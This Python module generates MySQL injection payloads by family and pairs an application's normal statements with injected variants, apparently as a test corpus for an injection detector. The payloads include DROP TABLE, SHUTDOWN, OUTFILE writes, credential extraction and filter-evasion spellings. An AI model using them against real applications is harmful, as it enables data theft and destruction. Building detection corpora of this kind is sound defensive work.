"""Injections into the statements of an application, made by family.

An injection is what arrives where a program pastes a text into a statement that it should have passed as a
parameter. The families are those that tools and handbooks describe; each is written for the place that it
stands in: behind a number, inside of quotes, in a list of values, where a name, an order or a limit stands.
"""

import itertools


def boolean(close, reopen):
    """What makes the condition true or false, to ask one bit."""
    for word, test in itertools.product(("AND", "OR", "and", "oR", "&&", "||", "XOR"),
                                        ("7=7", "7=8", "'q'='q'", "3>2", "2 BETWEEN 1 AND 3", "'q' LIKE 'q'", "NOT 1=2",
                                         "9 IN (8,9)", "id=id", "EXISTS(SELECT 1)", "(SELECT 1)=1", "ASCII('a')=97",
                                         "ORD(MID(USER(),1,1))>64", "LENGTH(DATABASE())>2")):
        yield f"{close} {word} {test}{reopen}"


def errors(close, reopen):
    """What makes the server say something in its error message."""
    for call in ("EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))", "UPDATEXML(1,CONCAT(0x7e,USER()),1)",
                 "EXP(~(SELECT * FROM (SELECT USER())q))", "GTID_SUBSET(CONCAT(0x71,(SELECT 1)),1)",
                 "JSON_KEYS((SELECT CONVERT((SELECT USER()) USING utf8mb4)))", "ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),"
                 "FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)q GROUP BY x LIMIT 1)"):
        for word in ("AND", "OR"):
            yield f"{close} {word} {call}{reopen}"


def unions(close, tail):
    """Rows of another table."""
    for word, count in itertools.product(("UNION ALL SELECT", "UNION SELECT", "union distinct select", "UNION(SELECT"),
                                         range(1, 6)):
        end = ")" if word.endswith("(SELECT") else ""
        yield f"{close} {word} {','.join(['NULL'] * count)}{end}{tail}"
        yield f"{close} {word} {','.join(['USER()'] + ['1'] * (count - 1))} FROM information_schema.tables{end}{tail}"


def stacked(close, tail):
    """Another statement."""
    for statement in ("DROP TABLE notes", "DELETE FROM notes", "SELECT SLEEP(0)", "SET @q=1", "INSERT INTO notes VALUES()",
                      "CREATE TABLE q (a INT)", "SHUTDOWN", "CALL q()", "PREPARE q FROM 'DROP TABLE notes'", ""):
        if statement:
            yield f"{close};{statement}{tail}"
            yield f"{close} ; {statement};{tail}"


def waits(close, reopen):
    """What takes its time, to ask one bit."""
    for test in ("SLEEP(0)", "BENCHMARK(1,MD5(1))", "IF(1=1,SLEEP(0),0)", "(SELECT 1 FROM (SELECT SLEEP(0))q)",
                 "CASE WHEN 1=1 THEN SLEEP(0) ELSE 0 END", "GET_LOCK('q',0)", "ELT(1=1,SLEEP(0))"):
        for word in ("AND", "OR", "-", "RLIKE"):
            yield f"{close} {word} {test}{reopen}"


def inline(close, reopen):
    """A query inside of an expression."""
    for query in ("(SELECT VERSION())", "(SELECT CONCAT(0x71,USER(),0x71))", "(SELECT password FROM notes LIMIT 1)",
                  "(SELECT COUNT(*) FROM information_schema.tables)"):
        for sign in ("=", "-", "+", "|", "*", "<=>"):
            yield f"{close} {sign} {query}{reopen}"


def comments(close):
    """What cuts off, or hides, the rest of the statement."""
    yield from (f"{close}{mark}" for mark in
                ("-- ", "-- -", "#", "#x", "/*", "/**/", "/* x */", "/*!*/", "-- \n", "--\t", ";-- ", ";#", "/*!99999 x */"))


def evasions(close, tail):
    """The same things in spellings that filters overlook."""
    for payload in ("/*!50000UNION*/ /*!50000SELECT*/ 1,2,3", "/*!UNION*//*!SELECT*/1,2,3", "UNION/**/SELECT/**/1,2,3",
                    "uNiOn\tsElEcT\t1,2,3", "UNION\nSELECT\n1,2,3", "UNION\x0bALL\x0cSELECT 1,2,3", "UNION%23\nSELECT 1,2,3",
                    "UNION-- q\nSELECT 1,2,3", "UNION#q\nSELECT 1,2,3", "UNION(SELECT(1),(2),(3))", "union select.1,2,3",
                    "UNION SELECT 1e0,2.,.3", "1.e(UNION)SELECT 1", "UNION SELECT 0x71,0b1,x'71'",
                    "OR CHAR(49)=CHAR(49)", "OR 0x31=0x31", "OR 1e0=1", "OR 'q' 'r'='qr'", "OR N'q'='q'", "OR _utf8'q'='q'",
                    "OR true", "OR !false", "OR ~1", "OR -1", "OR 1/**/=/**/1", "||1", "&&0", "OR(1)=(1)", "OR\xa01=1",
                    "OR @@version", "OR @q:=1", "AND 1.e.id=1", "OR 1 -- q", "DIV 1", "MOD 0", "IS NULL", "IS NOT NULL",
                    "COLLATE utf8mb4_bin", "SOUNDS LIKE 'q'", "LIKE '%'", "RLIKE '.*'", "REGEXP '.'", "BETWEEN 0 AND 9",
                    "IN (SELECT id FROM notes)", "/*!OR*/ 1", "/*!50110 OR 1=1*/", "/*M! OR 1=1 */", "/*!999999 OR 1*/",
                    "PROCEDURE ANALYSE()", "INTO OUTFILE '/tmp/q'", "INTO DUMPFILE '/tmp/q'", "INTO @q", "FOR UPDATE",
                    "LOCK IN SHARE MODE", "GROUP BY 1 WITH ROLLUP", "HAVING 1=1", "ORDER BY 9", "LIMIT 1 OFFSET 0 UNION SELECT 1",
                    "%2527 OR 1=1", "\\' OR 1=1", "\x00 OR 1=1", "\x00", "\x1a", "\xbf' OR 1=1", "&#39; OR 1=1"):
        yield f"{close} {payload}{tail}"


def at_number():
    """Behind WHERE id = , unquoted."""
    for family in (boolean, errors, waits, inline):
        yield from family("5", "")
    for family in (unions, stacked, evasions):
        yield from family("5", "")
    yield from unions("-5", "-- -")
    yield from stacked("5", "#")
    yield from comments("5")
    yield from comments("5 OR 1=1")
    yield from ("(SELECT 5)", "5,5", "5)", "(5", "id", "password", "@@version", "5e", "0x5g", "5'", "5\"", "5`", "5 5", "NULL=NULL",
                "USER()", "SLEEP(0)", "5|6", "5^6", "5<<1", "~5", "5 6 7", "5 AS q", "5.id", "'5")


def at_string():
    """Inside of quotes."""
    for family in (boolean, errors, waits, inline):
        yield from family("x'", " AND 'q'='q")
        yield from (payload + tail for payload in family("x'", "") for tail in ("-- -", "#"))
    for family in (unions, stacked, evasions):
        yield from family("x'", "-- -")
    yield from comments("x'")
    yield from ("x'", "x''' OR 1=1 -- ", "x' 'y' OR 'a'='a", "x'||'y", "x'+'y", "x' COLLATE 'y", "x\\", "x'=name AND 'q'='q",
                "x'/**/'", "x'-'", "x'*'1", "'='", "'^'", "'<>'q", "'LIKE'%", "'!='q", "' ' ' '=''='")


def at_order():
    """A column's name behind ORDER BY."""
    yield from ("IF(1=1,id,title)", "(SELECT 1)", "id,SLEEP(0)", "(CASE WHEN 1=1 THEN id ELSE title END)", "id;DROP TABLE notes",
                "id UNION SELECT 1", "RAND()", "id-- ", "id#", "id/**/", "1", "id DESC,(SELECT 1)", "id PROCEDURE ANALYSE()",
                "EXTRACTVALUE(1,CONCAT(0x7e,USER()))", "id ASC,1", "id*1", "notes.id", "`id`,`title`", "title", "-id", "id LIMIT 1")


def at_limit():
    """A number behind LIMIT."""
    yield from ("1 UNION SELECT 1", "1 PROCEDURE ANALYSE(1,1)", "1 INTO OUTFILE '/tmp/q'", "1;DROP TABLE notes", "1 OFFSET 0",
                "1-- ", "1#", "1/**/", "1 FOR UPDATE", "1 INTO @q", "(SELECT 1)", "1,1", "@q", "1 LOCK IN SHARE MODE")


def at_insert():
    """A string among the values of an INSERT."""
    yield from ("x',USER()),('y", "'+(SELECT USER())+'", "'|(SELECT 1)|'", "x') ON DUPLICATE KEY UPDATE title=USER()-- ",
                "x');DROP TABLE notes-- ", "x' AND SLEEP(0) AND '", "'-SLEEP(0)-'", "x')-- ", "x')#", "x')/*",
                "x' OR UPDATEXML(1,CONCAT(0x7e,USER()),1) OR '", "'||(SELECT password FROM notes LIMIT 1)||'", "x',DEFAULT)-- ",
                "x') RETURNING *-- ", "'^'", "x' 'y')-- ", "\\", "x'='x", "x'/**/")


def at_name():
    """A table's name."""
    yield from ("notes WHERE 1=1", "information_schema.tables", "notes,notes q", "(SELECT * FROM notes) q", "notes UNION SELECT 1,2",
                "notes;DROP TABLE notes", "notes-- ", "notes#", "notes/**/", "notes JOIN notes q", "mysql.user", "notes` q",
                "notes q", "notes PARTITION (p)", "notes FOR UPDATE", "test.notes")


#: Statements of the application with the place where a text is pasted; what it usually is; what is injected.
PLACES = [
    ("SELECT id, title, body FROM notes WHERE id = {}", "5", at_number),
    ("SELECT id, title, body FROM notes WHERE title = '{}' AND author = 3", "x", at_string),
    ("SELECT id FROM notes ORDER BY {}", "id", at_order),
    ("SELECT id FROM notes LIMIT {}", "5", at_limit),
    ("INSERT INTO notes (author, title) VALUES (5, '{}')", "x", at_insert),
    ("SELECT COUNT(*) FROM {}", "notes", at_name),
    ("UPDATE notes SET body = 'b' WHERE id = {}", "5", lambda: boolean("5", "")),
    ("DELETE FROM notes WHERE title = '{}'", "x", lambda: boolean("x'", " OR 'q'='q")),
]


#: Values for values: it has the shape of an INSERT of two rows, which the application does itself.
SAME_SHAPE = "INSERT INTO notes (author, title) VALUES (5, 'x'),(5,'y')"


def usual():
    """The application's own use of these statements."""
    return [template.format(value) for template, value, _ in PLACES]


def injections():
    """All of them, each once."""
    found = [template.format(payload) for template, _, payloads in PLACES for payload in payloads()]
    return list(dict.fromkeys(found))
